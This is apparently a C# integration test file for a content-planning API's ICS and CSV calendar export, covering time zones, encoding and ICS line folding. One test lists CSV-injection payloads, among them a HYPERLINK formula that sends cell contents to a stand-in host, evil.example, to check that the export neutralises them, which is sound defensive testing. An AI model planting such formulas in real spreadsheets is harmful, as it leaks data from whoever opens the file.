using System.Net;
using System.Text;
using ContentPlanning.Api.Tests.Infrastructure;
using static ContentPlanning.Api.Tests.Infrastructure.SourceData;

namespace ContentPlanning.Api.Tests.Calendars;

public sealed class ExportCalendarTests : DatabaseTest
{
    private static async Task<(long Id, long[] EventIds)> GenerateAsync(HttpClient client, string userId)
    {
        await Testing.ScalarAsync<long>(
            "INSERT INTO content_strategies (user_id, name, content_pillars) VALUES (@userId, 'Plan', '[\"Guides, \\\"how-to\\\"\", \"Stories\"]') RETURNING id",
            new { userId });
        using var response = await client.PostJsonAsync(ApiRoot + "/calendar-generation/generate-calendar",
            $$"""{"user_id": "{{userId}}", "calendar_type": "weekly", "start_date": "2026-03-02", "pieces_per_day": 2, "platforms": ["blog", "youtube"]}""");
        Assert.That(response.StatusCode, Is.EqualTo(HttpStatusCode.Created), await response.Content.ReadAsStringAsync());
        var json = await JsonAsync(response);
        return (json.GetProperty("id").GetInt64(), json.GetProperty("daily_schedule").EnumerateArray().Select(p => p.GetProperty("event_id").GetInt64()).ToArray());
    }

    [Test]
    public async Task IcsParsesBackWithOneVeventPerNonCancelledEvent()
    {
        using var client = Testing.CreateClient();
        var (id, events) = await GenerateAsync(client, "exp-1");
        using var cancel = await client.PutJsonAsync($"{ApiRoot}/calendar-events/{events[0]}",
            """{"title": "Dropped", "scheduled_at": "2026-03-02T09:00:00Z", "status": "cancelled"}""");
        Assert.That(cancel.StatusCode, Is.EqualTo(HttpStatusCode.OK));

        using var export = await client.GetAsync($"{ApiRoot}/calendars/{id}/export?format=ics");
        Assert.That(export.Content.Headers.ContentType?.MediaType, Is.EqualTo("text/calendar"));
        var calendar = Ical.Net.Calendar.Load(await export.Content.ReadAsStringAsync())!;
        Assert.Multiple(() =>
        {
            Assert.That(calendar.Events, Has.Count.EqualTo(events.Length - 1));
            Assert.That(calendar.Events.Select(e => e.Uid), Does.Not.Contain($"calendar-event-{events[0]}@content-planning"));
            Assert.That(calendar.Events.Select(e => e.Uid).Distinct().Count(), Is.EqualTo(events.Length - 1));
            Assert.That(calendar.Events.All(e => e.Categories.Count == 2 && e.Summary!.Length > 0 && e.DtStart is not null));
        });
    }

    [Test]
    public async Task CsvHasAHeaderAndOneQuotedRowPerEvent()
    {
        using var client = Testing.CreateClient();
        var (id, events) = await GenerateAsync(client, "exp-2");
        using var export = await client.GetAsync($"{ApiRoot}/calendars/{id}/export?format=csv");
        Assert.That(export.Content.Headers.ContentType?.MediaType, Is.EqualTo("text/csv"));
        var rows = ReadCsv(await export.Content.ReadAsStringAsync());
        Assert.Multiple(() =>
        {
            Assert.That(rows[0], Is.EqualTo(new[]
            {
                "event_id", "scheduled_at_local", "time_zone", "scheduled_at_utc", "title", "description", "platform", "content_type", "pillar", "status",
            }));
            Assert.That(rows.Skip(1).Select(r => long.Parse(r[0], System.Globalization.CultureInfo.InvariantCulture)), Is.EquivalentTo(events));
            Assert.That(rows.Skip(1).Select(r => r[8]), Has.Member("Guides, \"how-to\""));
            Assert.That(rows.All(r => r.Count == 10));
        });

        using var bad = await client.GetAsync($"{ApiRoot}/calendars/{id}/export?format=pdf");
        Assert.That(bad.StatusCode, Is.EqualTo(HttpStatusCode.BadRequest));
        using var missing = await client.GetAsync($"{ApiRoot}/calendars/987654/export?format=csv");
        await AssertProblemAsync(missing, HttpStatusCode.NotFound);
    }

    private static async Task<(long Id, long StrategyId)> CalendarWithEventsAsync(HttpClient client, string userId, string timezone, params (string Title, string? Description, string At, string Status)[] events)
    {
        await Testing.ScalarAsync<long>("INSERT INTO content_strategies (user_id, name) VALUES (@userId, 'Plan') RETURNING id", new { userId });
        using var response = await client.PostJsonAsync(ApiRoot + "/calendar-generation/generate-calendar",
            $$"""{"user_id": "{{userId}}", "calendar_type": "weekly", "start_date": "2026-03-02", "timezone": "{{timezone}}"}""");
        Assert.That(response.StatusCode, Is.EqualTo(HttpStatusCode.Created), await response.Content.ReadAsStringAsync());
        var json = await JsonAsync(response);
        var id = json.GetProperty("id").GetInt64();
        var strategyId = json.GetProperty("strategy_id").GetInt64();
        await Testing.ExecuteAsync("DELETE FROM calendar_events WHERE calendar_id = @id", new { id });
        foreach (var (title, description, at, status) in events)
        {
            await Testing.ExecuteAsync("""
                INSERT INTO calendar_events (strategy_id, calendar_id, title, description, scheduled_at, status, platform, pillar)
                VALUES (@strategyId, @id, @title, @description, @at::timestamptz, @status, 'blog', 'Guides')
                """, new { strategyId, id, title, description, at, status });
        }

        return (id, strategyId);
    }

    [Test]
    public async Task CsvIsUtf8WithAByteOrderMarkAndLocalAndUtcTimesASpreadsheetReads()
    {
        // Issue 25: without a BOM LibreOffice showed "Ãœber cafÃ©"; times were UTC with seven fractional digits.
        using var client = Testing.CreateClient();
        var (id, _) = await CalendarWithEventsAsync(client, "exp-bom", "Europe/Berlin",
            ("Über café", "Winter, \"cold\"\nsecond line", "2026-03-02T08:00:00Z", "scheduled"),
            ("Summer time", null, "2026-04-01T07:30:00Z", "draft"));

        using var export = await client.GetAsync($"{ApiRoot}/calendars/{id}/export?format=csv");
        var bytes = await export.Content.ReadAsByteArrayAsync();
        var rows = await PythonAsync("""
            import csv, io, json, sys
            text = open(sys.argv[1], encoding='utf-8-sig', newline='').read()
            print(json.dumps(list(csv.reader(io.StringIO(text)))))
            """, bytes);

        Assert.Multiple(() =>
        {
            Assert.That(bytes[..3], Is.EqualTo(new byte[] { 0xEF, 0xBB, 0xBF }), "UTF-8 byte order mark");
            Assert.That(rows[1][1..5], Is.EqualTo(new[] { "2026-03-02 09:00:00", "Europe/Berlin", "2026-03-02 08:00:00", "Über café" }));
            Assert.That(rows[1][5], Is.EqualTo("Winter, \"cold\"\nsecond line"));
            Assert.That(rows[2][1..4], Is.EqualTo(new[] { "2026-04-01 09:30:00", "Europe/Berlin", "2026-04-01 07:30:00" }), "summer time shows");
        });
    }

    [Test]
    public async Task CsvCellsThatASpreadsheetWouldRunAsFormulasAreNeutralised()
    {
        // Issue 21 item 9: OWASP's CSV-injection guidance; LibreOffice turned such cells into formulas.
        string[] hostile = ["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "+1+1", "-2+3", "@SUM(A1:A2)", "\tTab", "\rCarriage", "\uFF1D1+1"];
        using var client = Testing.CreateClient();
        var (id, _) = await CalendarWithEventsAsync(client, "exp-formula", "UTC",
            [.. hostile.Select((h, i) => (h, (string?)h, $"2026-03-0{i + 2}T08:00:00Z", "scheduled")), ("Plain - text", "=ok", "2026-03-10T08:00:00Z", "scheduled")]);

        using var export = await client.GetAsync($"{ApiRoot}/calendars/{id}/export?format=csv");
        var rows = ReadCsv(await export.Content.ReadAsStringAsync());

        Assert.Multiple(() =>
        {
            Assert.That(rows.Skip(1).Take(hostile.Length).Select(r => r[4]), Is.EqualTo(hostile.Select(h => "'" + h)));
            Assert.That(rows.Skip(1).Take(hostile.Length).Select(r => r[5]), Is.EqualTo(hostile.Select(h => "'" + h)));
            Assert.That(rows[^1].Skip(4).Take(2), Is.EqualTo(new[] { "Plain - text", "'=ok" }));
        });
    }

    [Test]
    public async Task IcsCarriesTheCalendarsTimeZoneAndEmojiSurviveFolding()
    {
        // Issue 21 item 10 (folding split surrogate pairs into U+FFFD) and issue 25 (only UTC times, no TZID/VTIMEZONE).
        var title = "ab" + string.Concat(Enumerable.Repeat("\ud83d\ude00", 40));
        var description = string.Concat(Enumerable.Repeat("é😀, ; \\ ", 30)) + "\nend";
        using var client = Testing.CreateClient();
        var (id, _) = await CalendarWithEventsAsync(client, "exp-ics", "America/New_York",
            (title, description, "2026-03-02T14:00:00Z", "scheduled"), ("After the switch", null, "2026-03-09T13:00:00Z", "scheduled"));

        using var export = await client.GetAsync($"{ApiRoot}/calendars/{id}/export?format=ics");
        var text = await export.Content.ReadAsStringAsync();
        var parsed = await PythonAsync("""
            import icalendar, json, sys
            cal = icalendar.Calendar.from_ical(open(sys.argv[1], 'rb').read())
            zones = [str(z['TZID']) for z in cal.walk('VTIMEZONE')]
            events = [[str(e['SUMMARY']), str(e.get('DESCRIPTION', '')), e['DTSTART'].params.get('TZID', ''), e['DTSTART'].dt.isoformat()] for e in cal.walk('VEVENT')]
            print(json.dumps([zones] + events))
            """, Encoding.UTF8.GetBytes(text));
        var dotnet = Ical.Net.Calendar.Load(text)!;

        Assert.Multiple(() =>
        {
            Assert.That(text, Does.Not.Contain("\uFFFD"));
            Assert.That(text.Split("\r\n").Select(l => Encoding.UTF8.GetByteCount(l)), Is.All.LessThanOrEqualTo(75), "folded at 75 octets");
            Assert.That(parsed[0], Is.EqualTo(new[] { "America/New_York" }), "one VTIMEZONE");
            Assert.That(parsed[1], Is.EqualTo(new[] { title, description, "America/New_York", "2026-03-02T09:00:00-05:00" }));
            Assert.That(parsed[2][2..], Is.EqualTo(new[] { "America/New_York", "2026-03-09T09:00:00-04:00" }), "daylight saving time shows");
            Assert.That(dotnet.Events[0]!.Summary, Is.EqualTo(title), "Ical.Net reads the same text back");
            Assert.That(dotnet.Events[0]!.DtStart!.TzId, Is.EqualTo("America/New_York"));
        });
    }

    /// <summary>Runs a Python 3 script (Debian's, with python3-icalendar: scripts/test.sh installs it) on the bytes; its JSON output.</summary>
    private static async Task<string[][]> PythonAsync(string script, byte[] input)
    {
        var file = Path.GetTempFileName();
        await File.WriteAllBytesAsync(file, input);
        try
        {
            var start = new System.Diagnostics.ProcessStartInfo("/usr/bin/python3") { RedirectStandardOutput = true, RedirectStandardError = true };
            start.ArgumentList.Add("-c");
            start.ArgumentList.Add(script);
            start.ArgumentList.Add(file);
            using var process = System.Diagnostics.Process.Start(start)!;
            var output = process.StandardOutput.ReadToEndAsync();
            var error = await process.StandardError.ReadToEndAsync();
            await process.WaitForExitAsync();
            Assert.That(process.ExitCode, Is.Zero, $"python3 failed (is python3-icalendar installed? scripts/test.sh installs it): {error}");
            return System.Text.Json.JsonSerializer.Deserialize<string[][]>(await output)!;
        }
        finally
        {
            File.Delete(file);
        }
    }

    /// <summary>A small RFC 4180 reader: quoted fields may hold commas, doubled quotes and line breaks.</summary>
    private static List<List<string>> ReadCsv(string text)
    {
        var rows = new List<List<string>>();
        var row = new List<string>();
        var field = new StringBuilder();
        var quoted = false;
        for (var i = 0; i < text.Length; i++)
        {
            var c = text[i];
            if (quoted)
            {
                if (c == '"' && i + 1 < text.Length && text[i + 1] == '"')
                {
                    field.Append('"');
                    i++;
                }
                else if (c == '"')
                {
                    quoted = false;
                }
                else
                {
                    field.Append(c);
                }
            }
            else if (c == '"')
            {
                quoted = true;
            }
            else if (c == ',')
            {
                row.Add(field.ToString());
                field.Clear();
            }
            else if (c == '\r' && i + 1 < text.Length && text[i + 1] == '\n')
            {
                row.Add(field.ToString());
                field.Clear();
                rows.Add(row);
                row = [];
                i++;
            }
            else
            {
                field.Append(c);
            }
        }

        Assert.That(row, Is.Empty, "the last row ends with CRLF");
        return rows;
    }
}
